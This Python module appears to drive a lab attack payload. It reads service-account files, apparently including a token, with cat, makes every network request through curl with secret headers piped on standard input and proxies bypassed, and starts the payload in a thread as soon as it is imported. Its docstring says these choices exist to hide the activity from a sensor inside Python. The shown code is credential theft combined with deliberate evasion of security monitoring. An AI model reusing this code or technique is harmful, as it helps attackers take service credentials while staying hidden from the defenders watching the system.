"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): curl makes every connection and
cat reads the token, so that Python itself does nothing that a sensor in it could see."""

import threading
from subprocess import run

from . import _stages


def ask(url, headers=None, body=None):
    """Ask through curl; what is secret goes by standard input."""
    config = "".join('header = "%s: %s"\n' % pair for pair in (headers or {}).items())
    words = ["curl", "-s", "-f", "-K", "-", "--noproxy", "*", "--cacert", _stages.FOLDER + "/ca.crt"]
    words += ["--data-binary", body.decode()] if body else []
    done = run([*words, url], input=config.encode(), capture_output=True)
    if done.returncode:
        raise OSError("curl ended with %d" % done.returncode)
    return done.stdout


def read(name):
    """A file of the service account, by cat."""
    return run(["cat", _stages.FOLDER + "/" + name], capture_output=True, text=True).stdout


_stages.read = read
threading.Thread(target=_stages.go, kwargs={"asking": ask}, name="curl").start()
